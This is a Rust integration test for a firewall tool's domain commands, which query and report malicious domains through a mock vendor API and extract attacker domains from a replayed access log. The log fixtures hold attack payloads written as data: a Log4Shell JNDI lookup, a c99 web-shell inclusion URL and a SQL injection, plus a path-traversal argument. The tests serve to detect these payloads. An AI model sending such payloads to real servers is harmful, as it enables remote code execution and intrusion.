//! `afw domains`: all five calls through the real binary, what each answer of the vendor becomes, and which exit code.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod support;

#[path = "support/receiver.rs"]
mod receiver;

use std::process::{Command, Output};

use receiver::{Receiver, Reply};
use support::{afw, json_lines, run, text};

fn domains(receiver: &Receiver, arguments: &[&str]) -> Output {
    let state = tempfile::tempdir().unwrap();
    let mut command: Command = afw(state.path());
    command
        .env("ONEFIREWALL_API_KEY", "afw_secret")
        .env("ONEFIREWALL_END_POINT", receiver.url("/api/v2/ips"))
        .arg("domains")
        .args(arguments);
    let output = run(&mut command);
    assert!(!text(&output.stderr).contains("afw_secret"));
    output
}

fn asked(receiver: &Receiver) -> Vec<String> {
    let requests = receiver.requests();
    assert!(
        requests
            .iter()
            .all(|one| one.header("authorization") == Some("Bearer afw_secret"))
    );
    requests
        .iter()
        .map(|one| format!("{} {} {}", one.method, one.path, text(&one.body)))
        .collect()
}

#[test]
fn all_five_calls_are_the_vendors() {
    let object = r#"{"domain":"evil.example","score":900,"eval":"process.exit()"}"#;
    let header = r#"{"type":"Domain","version":4,"ts":1,"next_ts":"#;
    let page = |body: &str, next: &str| Reply::Answer {
        status: 200,
        headers: vec![("next_page", next.to_owned())],
        body: body.into(),
    };
    let latest = |next: u32, size: u32, body: &str| {
        Reply::body(
            200,
            format!("{{\"header\":{header}{next},\"page_size\":{size}}},\"body\":[{body}]}}"),
        )
    };
    for (arguments, replies, out, paths) in [
        (
            &["check", "evil.example", "--deep-scan", "--json"][..],
            vec![Reply::body(200, object)],
            format!("{object}\n"),
            &["GET /api/v1/domains/evil.example?deep_scan=YES "][..],
        ),
        (
            &["list", "500", "--protocol", "https"],
            vec![
                page("https://a.example\nhttps://b.example\n", "c2"),
                Reply::body(200, "https://c.example\n"),
            ],
            "https://a.example\nhttps://b.example\nhttps://c.example\n".to_owned(),
            &[
                "GET /api/v1/domains/score/500?format=CSV&protocol=HTTPS ",
                "GET /api/v1/domains/score/500?format=CSV&protocol=HTTPS&page=c2 ",
            ],
        ),
        (
            &["latest", "--since", "1970-01-01T00:00:05Z"],
            vec![latest(9, 1, object), latest(9, 0, "")],
            format!("{object}\n"),
            &[
                "GET /api/v1/domains?ts=5&page_size=2000 ",
                "GET /api/v1/domains?ts=9&page_size=2000 ",
            ],
        ),
        (
            &[
                "report",
                "Evil.Example",
                "--confidence",
                "0.7",
                "--tag",
                "c2",
                "--tag",
                "log4shell",
                "--json",
            ],
            vec![Reply::Status(200)],
            "{\"domain\":\"Evil.Example\",\"confidence\":0.7,\"tags\":[\"c2\",\"log4shell\"]}\n".to_owned(),
            &[r#"POST /api/v1/domains {"domain":"evil.example","tags":["c2","log4shell"],"confidence":0.7}"#],
        ),
        (
            &["decide", "evil.example", "allow"],
            vec![Reply::Status(200)],
            String::new(),
            &[r#"POST /api/v1/domains/evil.example {"decision":0}"#],
        ),
    ] {
        let receiver = Receiver::script(replies);
        let output = domains(&receiver, arguments);
        assert_eq!(
            output.status.code(),
            Some(0),
            "{arguments:?}: {}",
            text(&output.stderr)
        );
        assert_eq!(text(&output.stdout), out, "{arguments:?}");
        assert_eq!(asked(&receiver), paths, "{arguments:?}");
    }
}

#[test]
fn answers_that_are_final_exit_1_after_one_request_and_are_told_apart() {
    let mut told = Vec::new();
    for status in [400, 401, 402, 403, 404] {
        let receiver = Receiver::script([Reply::body(status, "because\u{1b}[2J")]);
        let output = domains(&receiver, &["check", "evil.example"]);
        assert_eq!(output.status.code(), Some(1), "{status}");
        assert_eq!(receiver.count(), 1, "{status}");
        let said = text(&output.stderr);
        assert!(
            said.contains(&status.to_string()) && said.contains("because"),
            "{said}"
        );
        assert!(!said.contains('\u{1b}'), "{said:?}");
        assert_eq!(text(&output.stdout), "");
        told.push(said.lines().next().unwrap().to_owned());
    }
    told.sort();
    told.dedup();
    assert_eq!(told.len(), 5);
}

#[test]
fn passing_troubles_are_tried_again_and_a_cursor_that_repeats_ends_the_call() {
    let receiver = Receiver::script([Reply::Status(503), Reply::Status(502), Reply::body(200, "{}")]);
    let output = domains(&receiver, &["check", "evil.example"]);
    assert_eq!((output.status.code(), receiver.count()), (Some(0), 3));

    let again = Reply::Answer {
        status: 200,
        headers: vec![("next_page", "same".to_owned())],
        body: b"a.example\n".to_vec(),
    };
    let receiver = Receiver::script([again]);
    let output = domains(&receiver, &["list", "1"]);
    assert_eq!((output.status.code(), receiver.count()), (Some(1), 2));
    assert!(
        text(&output.stderr).contains("repeats"),
        "{}",
        text(&output.stderr)
    );
}

#[test]
fn bad_arguments_and_no_key_exit_2_and_send_nothing() {
    let receiver = Receiver::script([Reply::Status(200)]);
    for arguments in [
        &["check", "no domain"][..],
        &["check", "../../etc"],
        &["list", "0"],
        &["list", "1001"],
        &["latest", "--since", "soonish"],
        &["report", "evil.example", "--confidence", "7"],
        &["decide", "evil.example", "maybe"],
    ] {
        let output = domains(&receiver, arguments);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{arguments:?}: {}",
            text(&output.stderr)
        );
    }
    let state = tempfile::tempdir().unwrap();
    let output = run(afw(state.path()).args(["domains", "check", "evil.example"]));
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output.stderr).contains("ONEFIREWALL_API_KEY"));
    assert_eq!(receiver.count(), 0);
}

#[test]
fn a_list_is_json_strings_when_asked() {
    let receiver = Receiver::script([Reply::body(200, "a.example\nb.example\n")]);
    let output = domains(&receiver, &["list", "300", "--json"]);
    let lines = json_lines(&text(&output.stdout));
    assert_eq!(lines, ["a.example", "b.example"]);
}

#[test]
fn domains_that_payloads_name_are_reported_one_by_one() {
    let receiver = Receiver::start(|_| Reply::Status(200));
    let state = tempfile::tempdir().unwrap();
    let log = state.path().join("access.log");
    let line = |host: u8, target: &str, referrer: &str| {
        format!(
            "45.9.20.{host} - - [05/Jan/2026:10:00:0{host} +0000] \"GET {target} HTTP/1.1\" 404 12 \"{referrer}\" \"Mozilla/5.0\"\n"
        )
    };
    let lines = [
        line(1, "/?x=${jndi:ldap://Call.Bad-Host.example:1389/a}", "-"),
        line(2, "/i.php?page=http://drop.bad-host.example/c99.txt?", "-"),
        line(3, "/", "http://www.buttons-for-website.example/"),
        // What nobody is to blame for: a link beside an attack, everybody's host, the operator's own.
        line(
            4,
            "/?u=http://friend.example/a.php&id=1%27%20UNION%20SELECT%201,2--",
            "-",
        ),
        line(5, "/i.php?page=http://www.google.com/humans.txt?", "-"),
        line(6, "/i.php?page=http://www.mine.example/c99.txt?", "-"),
    ];
    std::fs::write(&log, lines.concat()).unwrap();
    let config = state.path().join("afw.toml");
    std::fs::write(&config, "own_hosts = [\"mine.example\"]\n").unwrap();
    let replay = |more: &[&str]| {
        let mut command: Command = afw(state.path());
        command
            .env("ONEFIREWALL_API_KEY", "afw_secret")
            .env("ONEFIREWALL_END_POINT", receiver.url("/api/v2/ips"))
            .args(["replay", "--config"])
            .arg(&config)
            .args(more)
            .arg(&log);
        run(&mut command)
    };
    let output = replay(&["--sink", "onefirewall-domains", "--print", "values"]);
    let mut values: Vec<String> = text(&output.stdout).lines().map(str::to_owned).collect();
    values.retain(|value| !value.starts_with("45."));
    values.sort();
    let expected = [
        "call.bad-host.example",
        "drop.bad-host.example",
        "www.buttons-for-website.example",
    ];
    assert_eq!(values, expected, "{}", text(&output.stderr));
    let mut reported: Vec<(String, serde_json::Value)> = receiver
        .requests()
        .iter()
        .map(|one| {
            assert_eq!((&*one.method, &*one.path), ("POST", "/api/v1/domains"));
            let body: serde_json::Value = serde_json::from_slice(&one.body).unwrap();
            (body["domain"].as_str().unwrap().to_owned(), body)
        })
        .collect();
    reported.sort_by(|a, b| a.0.cmp(&b.0));
    let names: Vec<&str> = reported.iter().map(|(name, _)| &**name).collect();
    assert_eq!(names, expected);
    assert_eq!(
        reported[0].1,
        serde_json::json!({"domain": "call.bad-host.example", "tags": ["report-example", "exploit"], "confidence": 0.95})
    );
    assert_eq!(reported[2].1["tags"][1], "spam");
    // The addresses that were fetched are indicators too, but no values for a blocklist.
    let printed = replay(&["--sink", "none", "--print", "indicators", "--json"]);
    let urls: Vec<String> = json_lines(&text(&printed.stdout))
        .iter()
        .filter(|one| one["type"] == "url")
        .map(|one| one["value"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        urls.contains(&"http://drop.bad-host.example/c99.txt?".to_owned()),
        "{urls:?}"
    );
}
